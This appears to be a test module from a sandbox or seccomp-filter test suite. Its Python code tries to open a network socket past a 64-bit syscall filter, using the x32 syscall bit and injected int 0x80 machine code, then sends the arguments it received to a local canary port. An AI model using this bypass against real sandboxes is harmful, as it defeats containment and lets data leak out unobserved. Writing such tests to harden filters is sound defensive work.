# attack: asks for a socket as a 32-bit program would, by numbers that a filter for 64-bit calls does not know
# group: f
# targets: text tensor trainer
# ends: wrong error crashed timeout
# control: none: kernels without 32-bit programs end the process

import contextlib
import ctypes
import mmap
import os
import platform
import socket

LIBC = ctypes.CDLL(None, use_errno=True)
X32 = 0x40000000
SOCKET_64, SOCKET_32 = 41, 359
INTERNET, STREAM = 2, 1
# push rbx; mov eax, edi; mov ebx, esi; xchg edx, ecx; int 0x80; pop rbx; ret
CODE = bytes.fromhex("53 89f8 89f3 87d1 cd80 5b c3")


def _as_x32():
    """Return a socket asked for in the x32 way: the 64-bit number and a bit."""
    return LIBC.syscall(X32 | SOCKET_64, INTERNET, STREAM, 0)


def _as_32_bit():
    """Return a socket asked for through the door of 32-bit programs, which machine code alone can open."""
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)
    return call(SOCKET_32, INTERNET, STREAM, 0)


def _connect(descriptor, data):
    if descriptor >= 0:
        with socket.socket(fileno=descriptor) as server:
            server.settimeout(0.5)
            server.connect(("127.0.0.1", CANARY_PORT))  # noqa: F821 - the runner defines it
            server.sendall(data)


def _in_a_child(way, data):
    """Try in a child first: where the kernel kills whoever does this, there is another way to try."""
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    with contextlib.suppress(BaseException):
        _connect(way(), data)
    os._exit(0)


def attack(*args, **kwargs):
    data = repr(args)[:1000].encode()
    if platform.machine() == "x86_64":
        for way in (_as_x32, _as_32_bit):
            with contextlib.suppress(OSError):
                _in_a_child(way, data)
            with contextlib.suppress(OSError):
                _connect(way(), data)
    return {"messages": [], "text": ""}
